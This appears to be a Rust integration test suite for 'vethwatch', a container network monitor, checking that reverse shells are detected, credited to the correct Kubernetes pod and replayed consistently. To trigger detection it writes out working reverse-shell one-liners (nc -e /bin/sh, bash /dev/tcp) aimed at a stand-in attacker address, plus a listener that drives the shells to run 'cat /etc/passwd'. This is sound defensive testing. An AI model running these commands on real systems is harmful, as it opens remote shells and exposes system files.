//! `vethwatch node` over namespaces made here and pods of a real containerd: the right pod, in time,
//! and the same when it is replayed.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, missing_docs)]

#[path = "support/containerd.rs"]
mod containerd;
#[path = "support/host.rs"]
mod host;
#[path = "support/namespace.rs"]
mod namespace;

use std::collections::BTreeSet;
use std::io::Write;
use std::path::Path;
use std::process::Command;
use std::thread;
use std::time::{Duration, Instant};

use containerd::{Containerd, Pod, within};
use host::{ATTACKER, FETCH, Host, VETHWATCH, alerts, findings, ip, of_kind, until};
use serde_json::Value;

#[test]
#[ignore = "needs root and network namespaces"]
fn a_shell_in_a_pod_bears_the_pods_name_and_its_neighbour_is_silent() {
    let mut host = Host::new();
    let Some(mut containerd) = Containerd::start(&host.name) else {
        host::skipped("containerd cannot be installed here");
        return;
    };
    let records = host.path("records.json");
    let socket = containerd.socket();
    let watcher = host.watch(&records, &["--cri-socket", socket.to_str().unwrap()]);
    host.serve();
    let listener = host.listen();

    let uid = |digit: u8| format!("8a9a5e5e-3e6f-4a57-8d8d-5f5c1c3f2b1{digit}");
    let (benign, attacked) = (uid(1), uid(2));
    let shop = |name, uid| Pod { name, namespace: "shop", uid, labels: &[], host_network: false };
    let neighbour = shop("api-0", &benign);
    let sandbox = containerd.run_pod(&neighbour);
    let ask =
        format!("while true; do wget -q -O /dev/null http://{ATTACKER}:8080/; sleep 0.3; done");
    containerd.run_container(&sandbox, &neighbour, "api", &["sh", "-c", &ask]);
    let pod = shop("web-0", &attacked);
    let sandbox = containerd.run_pod(&pod);
    // At once: before anyone can have told the pod's name.
    let shell = format!("nc {ATTACKER} 4444 -e /bin/sh; sleep 60");
    let app = containerd.run_container(&sandbox, &pod, "app", &["sh", "-c", &shell]);

    host.hears(listener, "connected");
    let mut typing = host.children[listener].stdin.take().unwrap();
    typing.write_all(b"id\n").unwrap();
    host.hears(listener, "uid=0");
    let answered = Instant::now();
    until(Duration::from_secs(2), || !alerts(&records).is_empty());
    eprintln!("told {:?} after the first command's answer", answered.elapsed());
    typing.write_all(b"cat /etc/passwd\nls /\n").unwrap();
    host.hears(listener, "root:x:0");
    thread::sleep(Duration::from_millis(500));
    assert!(host.end(watcher) < Duration::from_secs(2));

    let alerts = alerts(&records);
    for alert in &alerts {
        assert_eq!(alert["vethwatch"]["detector"], "reverse_shell", "{alert}");
        assert_eq!(alert["kubernetes"]["pod"], "web-0", "{alert}");
        assert_eq!(alert["kubernetes"]["namespace"], "shop", "{alert}");
        assert_eq!(alert["kubernetes"]["pod_uid"], attacked.as_str(), "{alert}");
        assert_eq!(alert["container"]["attribution"], "runtime", "{alert}");
        assert_eq!(alert["dest_ip"], ATTACKER, "{alert}");
    }
    // The first may know the pod by its sandbox alone; more is told under the same identifier.
    assert_eq!(alerts.last().unwrap()["container"]["id"], app.as_str(), "{alerts:?}");
    assert_eq!(findings(&alerts).len(), 1, "{alerts:?}");
    let neighbours = of_kind(&records, "flow");
    let neighbours = neighbours.iter().filter(|flow| flow["kubernetes"]["pod"] == "api-0").count();
    assert!(neighbours > 3, "{neighbours} flows of the neighbour");
    let seen = of_kind(&records, "coverage");
    assert!(seen.iter().any(|one| one["kubernetes"]["pod"] == "web-0"), "{seen:?}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn what_is_kept_replays_to_the_same_findings() {
    let mut host = Host::new();
    let (one, other) = (host.container(1), host.container(2));
    let (records, kept) = (host.path("records.json"), host.path("kept.pcapng"));
    let watcher = host.watch(&records, &["--write", kept.to_str().unwrap()]);
    host.serve();
    let listener = host.listen();
    let page = format!("http://{ATTACKER}:8080/");
    host.start(&other, "python3", &["-c", FETCH, &page, "6"]);
    let shell = format!("exec 3<>/dev/tcp/{ATTACKER}/4444; exec sh <&3 >&3 2>&3");
    host.start(&one, "bash", &["-c", &shell]);
    host.hears(listener, "connected");
    let mut typing = host.children[listener].stdin.take().unwrap();
    for command in ["id\n", "uname -a\n", "cat /etc/passwd\n"] {
        typing.write_all(command.as_bytes()).unwrap();
        thread::sleep(Duration::from_millis(400));
    }
    until(Duration::from_secs(3), || !alerts(&records).is_empty());
    drop(typing);
    thread::sleep(Duration::from_secs(1));
    host.end(watcher);

    let replayed = host.path("replayed.json");
    let status = Command::new(VETHWATCH)
        .args(["replay", "--no-progress", "--format", "eve", "--output"])
        .args([&replayed, &kept])
        .status()
        .unwrap();
    assert!(status.success());
    let (live, again) = (findings(&alerts(&records)), findings(&alerts(&replayed)));
    assert!(!live.is_empty());
    assert_eq!(live, again);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn containers_that_live_a_moment_are_seen_and_forgotten() {
    let mut host = Host::new();
    let records = host.path("records.json");
    let watcher = host.watch(&records, &[]);
    host.serve();
    for number in 1..=20 {
        let name = host.container(number);
        let page = format!("http://10.213.{number}.1:8080/");
        let done = within(&name, "python3").args(["-c", FETCH, &page, "1"]).status();
        assert!(done.unwrap().success());
        ip(&format!("netns del {name}"));
    }
    thread::sleep(Duration::from_secs(2));
    host.end(watcher);
    let flows = of_kind(&records, "flow");
    let seen: BTreeSet<String> = flows
        .iter()
        .filter(|flow| flow["dest_port"] == 8080)
        .map(|flow| flow["container"]["ip"].to_string())
        .collect();
    assert_eq!(seen.len(), 20, "each from its first packet on: {seen:?}");
    let stats = of_kind(&records, "stats");
    assert_eq!(stats.last().unwrap()["vethwatch"]["counters"]["containers"], 0);
    assert!(alerts(&records).is_empty());
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_container_that_is_hidden_while_it_runs_is_a_finding() {
    let mut host = Host::new();
    let containers = [1, 2, 3].map(|number| host.container(number));
    let programs = containers.each_ref().map(|name| host.start(name, "sleep", &["60"]));
    let records = host.path("records.json");
    let watcher = host.watch(&records, &[]);
    let name = host.name.clone();
    ip(&format!("-n {name} link del c1"));
    ip(&format!("-n {name} link set c2 down"));
    host.children[programs[2]].kill().unwrap();
    host.children[programs[2]].wait().unwrap();
    ip(&format!("-n {name} link del c3"));
    let rule = |alert: &Value| {
        let text =
            |pointer: &str| alert.pointer(pointer).and_then(Value::as_str).unwrap_or_default();
        format!("{} {}", text("/in_iface"), text("/vethwatch/rule"))
    };
    let told = || alerts(&records).iter().map(rule).collect::<BTreeSet<String>>();
    until(Duration::from_secs(12), || told().len() >= 2);
    host.end(watcher);
    let expected = ["c1 blind.interface_gone", "c2 blind.interface_down"];
    assert_eq!(told(), BTreeSet::from(expected.map(str::to_owned)));
}

/// What was told of blind spots: state and rule, in order; the container is known in each.
fn blind_spots(records: &Path) -> Vec<String> {
    let told = alerts(records);
    told.iter()
        .map(|alert| {
            assert_eq!(alert["container"]["attribution"], "interface", "{alert}");
            let text =
                |pointer: &str| alert.pointer(pointer).and_then(Value::as_str).unwrap_or_default();
            format!("{} {}", text("/vethwatch/state"), text("/vethwatch/rule"))
        })
        .collect()
}

#[test]
#[ignore = "needs root and network namespaces"]
fn an_interface_that_comes_back_ends_its_finding() {
    let mut host = Host::new();
    let container = host.container(1);
    host.start(&container, "sleep", &["60"]);
    let records = host.path("records.json");
    let watcher = host.watch(&records, &[]);
    let name = host.name.clone();
    let away = format!("{name}-away");
    ip(&format!("netns add {away}"));
    host.others.push(away.clone());
    let (gone, back) = ("open blind.interface_gone", "close blind.interface_gone");
    ip(&format!("-n {name} link set c1 netns {away}"));
    until(Duration::from_secs(9), || !blind_spots(&records).is_empty());
    assert_eq!(blind_spots(&records), [gone]);
    ip(&format!("-n {away} link set c1 netns {name}"));
    ip(&format!("-n {name} link set c1 up"));
    until(Duration::from_secs(2), || blind_spots(&records).len() > 1);
    // Whose it is, is looked up anew meanwhile: that is no news.
    thread::sleep(Duration::from_secs(2));
    assert_eq!(blind_spots(&records), [gone, back]);
    let of = |states: &str| {
        let all = of_kind(&records, "coverage");
        all.iter().filter(|one| one["coverage"]["state"] == states).count()
    };
    assert!(of("moved") == 1 && of("seen") == 2, "{:?}", of_kind(&records, "coverage"));
    ip(&format!("-n {name} link set c1 netns {away}"));
    until(Duration::from_secs(9), || blind_spots(&records).len() > 2);
    host.end(watcher);
    assert_eq!(blind_spots(&records), [gone, back, gone, back], "at the end, too");
}

/// From within: the host's end stays where it was.
#[test]
#[ignore = "needs root and network namespaces"]
fn a_container_whose_own_end_is_moved_away_is_a_finding() {
    let mut host = Host::new();
    let container = host.container(1);
    host.start(&container, "sleep", &["60"]);
    let away = format!("{}-away", host.name);
    ip(&format!("netns add {away}"));
    host.others.push(away.clone());
    let records = host.path("records.json");
    let watcher = host.watch(&records, &[]);
    ip(&format!("-n {container} link set eth0 netns {away}"));
    ip(&format!("-n {away} addr add 10.213.1.7/24 dev eth0"));
    ip(&format!("-n {away} link set eth0 up"));
    until(Duration::from_secs(3), || blind_spots(&records).len() > 1);
    for alert in alerts(&records) {
        assert_eq!(alert["container"]["name"], container, "{alert}");
    }
    thread::sleep(Duration::from_secs(1));
    let send = "import socket; socket.socket(2, 2).sendto(b'x', ('10.213.1.1', 999))";
    assert!(within(&away, "python3").args(["-c", send]).status().unwrap().success());
    thread::sleep(Duration::from_millis(300));
    host.end(watcher);
    assert_eq!(blind_spots(&records), ["open blind.interface_gone", "close blind.interface_gone"]);
    let flows = of_kind(&records, "flow");
    let last = flows.iter().find(|flow| flow["src_ip"] == "10.213.1.7");
    assert_eq!(last.unwrap()["container"]["name"], away, "{flows:#?}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_second_way_out_is_a_finding_and_an_end_is_told() {
    let mut host = Host::new();
    let (one, other) = (host.container(1), host.container(2));
    let program = host.start(&one, "sleep", &["60"]);
    let records = host.path("records.json");
    let watcher = host.watch(&records, &["--events", "alert,coverage"]);
    let name = host.name.clone();
    thread::sleep(Duration::from_millis(5_500));
    ip(&format!("-n {name} link add below type veth peer name above"));
    ip(&format!("-n {name} link set below up"));
    ip(&format!("-n {name} link add link below name side type macvlan"));
    ip(&format!("-n {name} link set side netns {one}"));
    thread::sleep(Duration::from_millis(500));
    ip(&format!("-n {one} link set side up"));
    until(Duration::from_secs(5), || !blind_spots(&records).is_empty());
    assert_eq!(blind_spots(&records), ["open blind.secondary_interface"]);
    assert_eq!(alerts(&records)[0]["vethwatch"]["evidence"]["interface_kind"], "macvlan");
    ip(&format!("-n {one} link del side"));
    until(Duration::from_secs(15), || blind_spots(&records).len() > 1);
    assert_eq!(blind_spots(&records)[1], "close blind.secondary_interface");
    host.children[program].kill().unwrap();
    host.children[program].wait().unwrap();
    // Whatever else runs on this machine is in the same procfs.
    let covered = of_kind(&records, "coverage");
    let id = covered.iter().find(|one| one["in_iface"] == "c1").unwrap()["container"]["id"].clone();
    for name in [one, other] {
        ip(&format!("netns del {name}"));
    }
    let gone = || {
        let all = of_kind(&records, "coverage");
        all.iter().filter(|one| one["coverage"]["state"] == "gone").cloned().collect::<Vec<_>>()
    };
    until(Duration::from_secs(9), || gone().iter().any(|one| one["container"]["id"] == id));
    assert!(gone().iter().all(|one| one["coverage"]["why"] == "it has ended"));
    host.end(watcher);
}

/// Listens, and drives whatever shell comes for half a minute.
const DRIVE: &str = "import socket,sys,threading,time
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind(('203.0.113.66',4444)); s.listen(); sys.stderr.write('listening\\n'); sys.stderr.flush()
def drive(c):
    try:
        for n in range(60):
            c.sendall([b'id\\n',b'cat /etc/passwd\\n',b'ls /\\n',b'uname -a\\n'][n%4]); time.sleep(.5)
    except OSError: pass
while True: threading.Thread(target=drive,args=s.accept()[:1],daemon=True).start()";

/// A real containerd, a watcher of it (with these arguments more), and who drives shells.
fn cluster(more: &[&str]) -> Option<(Host, Containerd, usize)> {
    let mut host = Host::new();
    let Some(containerd) = Containerd::start(&host.name) else {
        host::skipped("containerd cannot be installed here");
        return None;
    };
    let name = host.name.clone();
    let driver = host.start(&name, "python3", &["-c", DRIVE]);
    host.hears(driver, "listening");
    let records = host.path("records.json");
    let watcher = host.watch(&records, more);
    Some((host, containerd, watcher))
}

fn pod<'a>(name: &'a str, uid: &'a str) -> Pod<'a> {
    Pod { name, namespace: "shop", uid, labels: &[], host_network: false }
}

const UID: &str = "8a9a5e5e-3e6f-4a57-8d8d-5f5c1c3f2b11";
const UID_2: &str = "8a9a5e5e-3e6f-4a57-8d8d-5f5c1c3f2b12";

/// A shell, then so many seconds more.
fn shell(seconds: u32) -> [String; 3] {
    let run = format!("timeout {seconds} nc {ATTACKER} 4444 -e /bin/sh; sleep {seconds}");
    ["sh".to_owned(), "-c".to_owned(), run]
}

fn run(
    containerd: &Containerd,
    sandbox: &str,
    of: &Pod<'_>,
    name: (&str, u32),
    words: &[String],
) -> String {
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    containerd.restart_container(sandbox, of, name, &words)
}

fn alerts_of(records: &Path, pod: &str) -> Vec<Value> {
    alerts(records).into_iter().filter(|alert| alert["kubernetes"]["pod"] == pod).collect()
}

/// What each record says of whose it is: what was known once stays.
fn assert_gains_only(alerts: &[Value]) {
    let mut known: std::collections::BTreeMap<String, Value> = std::collections::BTreeMap::new();
    for alert in alerts {
        let uid = alert["vethwatch"]["alert_uid"].to_string();
        if let Some(before) = known.get(&uid) {
            assert!(
                before["kubernetes"].is_null() || before["kubernetes"] == alert["kubernetes"],
                "{before}\n{alert}"
            );
            if before["container"]["attribution"] == "runtime" {
                assert_eq!(alert["container"]["attribution"], "runtime", "{alert}");
            }
            let list = |one: &Value| one["container"]["containers"].as_array().cloned();
            let (before, now) = (list(before).unwrap_or_default(), list(alert).unwrap_or_default());
            assert!(before.iter().all(|name| now.contains(name)), "{before:?} {now:?}");
        }
        known.insert(uid, alert.clone());
    }
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_runtime_that_restarts_takes_no_name_away() {
    let folder = tempfile::tempdir().unwrap();
    let link = folder.path().join("cri.sock");
    let arguments = ["--cri-socket", link.to_str().unwrap(), "--events", "alert,coverage"];
    let Some((mut host, mut containerd, watcher)) = cluster(&arguments) else { return };
    std::os::unix::fs::symlink(containerd.socket(), &link).unwrap();
    let records = host.path("records.json");
    let (lasting, ending) = (pod("web-0", UID), pod("job-0", UID_2));
    let sandbox = containerd.run_pod(&lasting);
    let app = run(&containerd, &sandbox, &lasting, ("app", 0), &shell(60));
    let of_job = containerd.run_pod(&ending);
    let job = run(&containerd, &of_job, &ending, ("job", 0), &shell(60));
    let named = |pod: &str, id: &str| {
        alerts_of(&records, pod).last().is_some_and(|one| one["container"]["id"] == id)
    };
    until(Duration::from_secs(12), || named("web-0", &app) && named("job-0", &job));
    containerd.remove_container(&job);
    let gone = || {
        let all = of_kind(&records, "coverage");
        all.iter().any(|one| one["coverage"]["state"] == "gone" && one["container"]["id"] == *job)
    };
    until(Duration::from_secs(12), gone);
    thread::sleep(Duration::from_millis(500));
    // Others' tests have containers in the same procfs.
    let own = [&sandbox, &of_job, &app, &job];
    let covered = || {
        let mut all = of_kind(&records, "coverage");
        all.retain(|one| own.iter().any(|id| one["container"]["id"] == id.as_str()));
        all
    };
    let settled = covered().len();

    containerd.stop();
    // An interface that comes makes it look at once.
    host.container(1);
    host.hears(watcher, "the runtime's socket is gone");
    thread::sleep(Duration::from_secs(2));
    assert!(named("web-0", &app) && named("job-0", &job));
    containerd.start_again();
    host.hears(watcher, "the runtime answers");
    thread::sleep(Duration::from_secs(1));
    assert_eq!(covered().split_off(settled), Vec::<Value>::new());
    containerd.remove_pod(&sandbox);
    containerd.remove_pod(&of_job);
    let closed = |pod| {
        alerts_of(&records, pod).last().is_some_and(|one| one["vethwatch"]["state"] == "close")
    };
    until(Duration::from_secs(12), || closed("web-0") && closed("job-0"));
    host.end(watcher);

    let alerts = alerts(&records);
    assert_gains_only(&alerts);
    for (pod, id) in [("web-0", &app), ("job-0", &job)] {
        let all = alerts_of(&records, pod);
        assert!(all.iter().all(|one| one["container"]["id"] == **id), "{all:?}");
    }
    assert!(alerts.iter().all(|one| one["kubernetes"]["pod"].is_string()), "{alerts:?}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_container_started_anew_is_not_told_as_the_one_before() {
    let folder = tempfile::tempdir().unwrap();
    let link = folder.path().join("cri.sock");
    let Some((mut host, mut containerd, watcher)) =
        cluster(&["--cri-socket", link.to_str().unwrap()])
    else {
        return;
    };
    std::os::unix::fs::symlink(containerd.socket(), &link).unwrap();
    let records = host.path("records.json");
    let crashing = pod("crash-0", UID);
    let sandbox = containerd.run_pod(&crashing);
    let sleep = ["sh", "-c", "sleep 2"].map(str::to_owned);
    let first = run(&containerd, &sandbox, &crashing, ("app", 0), &sleep);
    let state = |id: &str, state: &str| {
        let all = of_kind(&records, "coverage");
        all.iter().any(|one| one["coverage"]["state"] == state && one["container"]["id"] == id)
    };
    until(Duration::from_secs(8), || state(&first, "seen"));
    until(Duration::from_secs(12), || state(&first, "gone"));
    let second = run(&containerd, &sandbox, &crashing, ("app", 1), &shell(60));
    until(Duration::from_secs(12), || !alerts(&records).is_empty());
    host.end(watcher);
    for alert in alerts(&records) {
        assert_eq!(alert["kubernetes"]["pod"], "crash-0", "{alert}");
        assert_ne!(alert["container"]["id"], first.as_str(), "{alert}");
    }
    let last = alerts(&records).pop().unwrap();
    assert_eq!(last["container"]["id"], second.as_str(), "{last}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn of_a_pods_containers_none_is_accused_and_none_excused_for_another() {
    let folder = tempfile::tempdir().unwrap();
    let (link, config) = (folder.path().join("cri.sock"), folder.path().join("config.toml"));
    let allow = "[[allow]]\nreason = 'test'\nowner = 'me'\ncontainer = 'a'\n";
    std::fs::write(&config, allow).unwrap();
    let arguments =
        [["--cri-socket", link.to_str().unwrap()], ["--config", config.to_str().unwrap()]];
    let Some((mut host, mut containerd, watcher)) = cluster(&arguments.concat()) else { return };
    std::os::unix::fs::symlink(containerd.socket(), &link).unwrap();
    let records = host.path("records.json");
    let (several, single) = (pod("tri", UID), pod("one", UID_2));
    let sandbox = containerd.run_pod(&several);
    let sleep = ["sh", "-c", "sleep 60"].map(str::to_owned);
    for name in ["a", "b"] {
        run(&containerd, &sandbox, &several, (name, 0), &sleep);
    }
    thread::sleep(Duration::from_secs(2));
    run(&containerd, &sandbox, &several, ("evil", 0), &shell(60));
    // Its finding comes before anyone can have told its name.
    let other = containerd.run_pod(&single);
    run(&containerd, &other, &single, ("a", 0), &shell(60));
    let list = |alert: &Value| alert["container"]["containers"].clone();
    let complete = || {
        let all = alerts_of(&records, "tri");
        all.last().is_some_and(|one| list(one).as_array().is_some_and(|list| list.len() == 3))
    };
    until(Duration::from_secs(15), complete);
    thread::sleep(Duration::from_secs(2));
    host.end(watcher);
    let all = alerts(&records);
    assert_gains_only(&all);
    for alert in &all {
        assert_eq!(alert["kubernetes"]["pod"], "tri", "what is allowed is silent: {alert}");
        assert_eq!(alert["container"]["id"], sandbox.as_str(), "{alert}");
        assert!(alert["container"].get("name").is_none(), "{alert}");
    }
}

#[test]
#[ignore = "needs root and network namespaces"]
fn without_a_runtimes_socket_a_finding_bears_the_pods_uid() {
    let Some((mut host, mut containerd, watcher)) = cluster(&[]) else { return };
    let records = host.path("records.json");
    let web = pod("web-0", UID);
    let sandbox = containerd.run_pod(&web);
    run(&containerd, &sandbox, &web, ("app", 0), &shell(60));
    until(Duration::from_secs(12), || !alerts(&records).is_empty());
    thread::sleep(Duration::from_secs(1));
    host.end(watcher);
    let last = alerts(&records).pop().unwrap();
    assert_eq!(last["kubernetes"], serde_json::json!({ "pod_uid": UID }), "{last}");
    let covered = of_kind(&records, "coverage");
    assert!(covered.iter().any(|one| one["kubernetes"]["pod_uid"] == UID), "{covered:?}");
}
